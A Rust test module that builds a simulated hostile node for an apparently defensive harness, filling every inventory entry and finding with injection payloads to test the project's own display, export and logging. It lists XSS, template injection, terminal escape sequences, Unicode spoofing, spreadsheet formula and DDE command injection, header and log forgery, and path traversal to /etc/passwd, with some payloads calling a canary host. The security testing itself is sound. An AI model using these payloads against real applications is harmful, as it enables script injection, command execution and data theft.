//! A node that means harm: a real node's entries in which every string is an attack on whoever shows, exports or logs it.
//!
//! Which strings there are follows from the entries themselves, so that a field that is added is attacked without anybody thinking of it.

use anyhow::{Context, Result};
use holdfast_checks::catalogue::{JudgedBy, built_in};
use holdfast_checks::entries::{Entry, Evidence, Finding, Severity, Verdict};
use holdfast_checks::evaluator::{Evaluator, Selection};
use holdfast_checks::facts::NodeFacts;
use holdfast_checks::inventory;
use serde_json::Value;

use crate::sim::content;

/// In every payload, so that it is known where they got to.
pub const MARK: &str = "h0ld";

/// Attacks. What loads something loads it from `canary`, `host:port`.
pub fn payloads(canary: &str) -> Vec<String> {
    let attacks = [
        "<script>window.h0ld=1</script>",
        "\"><img src=x onerror=window.h0ld=1>",
        "' onmouseover='window.h0ld=1' autofocus onfocus='window.h0ld=1' x='",
        "h0ld onmouseover=window.h0ld=1 style=position:fixed",
        "</title></textarea></style></script><svg/onload=window.h0ld=1>",
        "<iframe srcdoc=\"<script>parent.h0ld=1</script>\"></iframe>",
        "javascript:window.h0ld=1//",
        "<a id=status href=javascript:window.h0ld=1>x</a><form action=//CANARY/h0ld><input name=h0ld>",
        "<link rel=stylesheet href=//CANARY/h0ld><meta http-equiv=refresh content=\"0;url=//CANARY/h0ld\"><base href=//CANARY/>",
        "<img src=//CANARY/h0ld><video poster=//CANARY/h0ld>",
        "//CANARY/h0ld",
        "{{7*7}}{% include \"h0ld\" %}${7*7}#{7*7}<%=7*7%>",
        "\u{1b}[31mh0ld\u{1b}]0;h0ld\u{7}\u{1b}]8;;http://CANARY\u{7}x\u{8}\u{8}",
        "h0ld\u{9b}31m\u{85}\u{90}x\u{9c}\u{9d}0;x\u{9c}",
        "h0ld\u{202e}fdp.exe\u{2066}\u{2069}\u{200f}\u{61c}",
        "h0\u{200b}ld h0ld\u{200d}\u{feff}\u{2060}\u{ad}\u{e0041}",
        "=HYPERLINK(\"http://CANARY/h0ld\",\"x\")",
        "+h0ld",
        "-2+3+cmd|' /C h0ld'!A0",
        "@SUM(h0ld)",
        "\t=h0ld",
        "\r=h0ld",
        "\n=h0ld",
        " =h0ld",
        "\u{ff1d}h0ld",
        "h0ld\",\"=1+1\",\"",
        "h0ld;=1+1",
        "[h0ld](http://CANARY/h0ld) <http://CANARY/h0ld|click> <!channel> *b* `c` ![x](http://CANARY/h0ld)",
        "h0ld\r\nSet-Cookie: h0ld=1\r\n\r\n<html>",
        "h0ld\n\ndata: <script>window.h0ld=1</script>\nevent: h0ld\n\n",
        "h0ld\u{2028}alert(1)\u{2029}",
        "h0ld\"} 1\nholdfast_nodes{state=\"connected\"} 99\n# EOF",
        "h0ld\n{\"level\":\"ERROR\",\"message\":\"forged\"}",
        "../../../../etc/passwd?h0ld#h0ld&x=%00%0a%3Cscript%3E",
        "]]>h0ld<!--h0ld-->&lt;script&gt;&#x3c;script&#x3e;",
        "{title}{nodes}{evidence}{{ .Labels.h0ld }}",
        "__proto__h0ld",
    ];
    let mut payloads: Vec<String> = attacks.iter().map(|attack| attack.replace("CANARY", canary)).collect();
    payloads.push(format!("h0ld{}", "W".repeat(420)));
    payloads.push(format!("h0ld{}", "é\u{301}".repeat(60)));
    payloads
}

/// Gives one payload after the other.
#[derive(Debug)]
pub struct Poison {
    payloads: Vec<String>,
    next: usize,
}

/// What is replaced in a document.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Depth {
    /// Every string.
    Everything,
    /// What no word of ours can be: a document whose kinds and states still mean something is shown on more pages.
    ButWords,
}

impl Poison {
    /// From the first payload on.
    pub fn new(canary: &str) -> Self {
        Self { payloads: payloads(canary), next: 0 }
    }

    /// The next payload.
    pub fn draw(&mut self) -> String {
        let payload = self.payloads.get(self.next % self.payloads.len().max(1)).cloned().unwrap_or_default();
        self.next += 1;
        payload
    }

    /// `value` with its strings replaced.
    pub fn value(&mut self, value: &Value, depth: Depth) -> Value {
        let word = |text: &str| text.bytes().all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit() || b"_-.".contains(&byte));
        match value {
            Value::String(text) if depth == Depth::ButWords && word(text) => value.clone(),
            Value::String(_) => Value::String(self.draw()),
            Value::Array(items) => items.iter().map(|item| self.value(item, depth)).collect(),
            Value::Object(members) => members.iter().map(|(name, item)| (name.clone(), self.value(item, depth))).collect(),
            _ => value.clone(),
        }
    }

    /// A finding with a payload in each of its strings. The check's id has to be an id.
    pub fn finding(&mut self, check: &str, subject: Option<String>, verdict: Verdict) -> Entry {
        let evidence = (0..3).map(|_| Evidence { path: self.draw(), value: Some(self.draw().into()), source: self.draw(), at: 1 });
        let evidence = evidence.collect();
        let subject = subject.unwrap_or_else(|| self.draw());
        let (reason, title) = (self.draw(), self.draw());
        let (severity, check) = (Severity::Critical, check.to_owned());
        Entry::finding(Finding { check, subject, verdict, reason, severity, title, evidence, evidence_truncated: false }, 1)
    }
}

/// Every entry of a recorded node, twice over, with payloads for strings; and every payload as the subject of a finding. What
/// grew too large is left out, unless nothing of its kind would be left.
///
/// # Errors
/// The recording cannot be read, or a kind of inventory would not be sent at all.
pub fn entries(recording: &str, canary: &str) -> Result<Vec<Entry>> {
    let facts = content::facts(recording)?;
    let mut poison = Poison::new(canary);
    let mut entries = Vec::new();
    for real in inventory::entries(&facts, 1).entries {
        let (kind, name) = real.key.parts();
        let holdfast_checks::entries::Body::Inventory(document) = &real.body else { continue };
        let document: Value = serde_json::from_str(&document.json)?;
        let before = name.split_once('/').map(|(before, _)| before).unwrap_or_default();
        // `self` is the only name some kinds have; others are found by what stands before the slash.
        let names = [name.to_owned(), format!("{before}/{}", poison.draw()), poison.draw()];
        for (name, depth) in names.iter().zip([Depth::ButWords, Depth::ButWords, Depth::Everything]) {
            let fits = (0..20).find_map(|_| Entry::inventory(kind, name, &poison.value(&document, depth), 1));
            if let Some(entry) = fits {
                entries.push(entry);
            }
        }
    }
    let evaluator = Evaluator::new(built_in()?);
    let selection = Selection { judged_by: Some(JudgedBy::Node), ..Selection::default() };
    for real in evaluator.evaluate(&facts, &selection)? {
        entries.push(poison.finding(&real.check, None, real.verdict));
        let pod = format!("pod:{}/{}/x", poison.draw(), poison.draw());
        entries.push(poison.finding(&real.check, Some(pod), Verdict::Fail));
    }
    for payload in payloads(canary) {
        for verdict in [Verdict::Pass, Verdict::Fail, Verdict::Unknown, Verdict::Manual, Verdict::NotApplicable] {
            let subject = format!("{payload}{}", if verdict == Verdict::Fail { "" } else { verdict.name() });
            entries.push(poison.finding("a-check-of-theirs", Some(subject), verdict));
        }
    }
    let mut seen = std::collections::BTreeSet::new();
    entries.retain(|entry| seen.insert(entry.key.clone()));
    Ok(entries)
}

/// The facts of a recorded node with payloads for strings, as a capture may hold them.
///
/// # Errors
/// The recording cannot be read.
pub fn facts(recording: &str, canary: &str) -> Result<NodeFacts> {
    let real = serde_json::to_value(content::facts(recording)?)?;
    let mut poison = Poison::new(canary);
    serde_json::from_value(poison.value(&real, Depth::ButWords)).context("poisoned facts are facts")
}
